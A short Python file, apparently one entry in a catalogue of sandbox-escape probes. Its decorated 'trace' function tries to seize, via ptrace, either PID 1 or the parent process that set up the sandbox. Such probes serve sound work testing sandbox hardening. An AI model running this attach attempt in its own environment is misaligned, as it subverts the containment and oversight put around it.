from attack import *

@attack
def trace():
    """Takes the process that set the sandbox up."""
    for number in (1, os.getppid()):
        try:
            syscall("ptrace", 0x4206, number, 0, 0)
        except OSError as error:
            held = error
        else:
            return f"process {number}"
    raise held
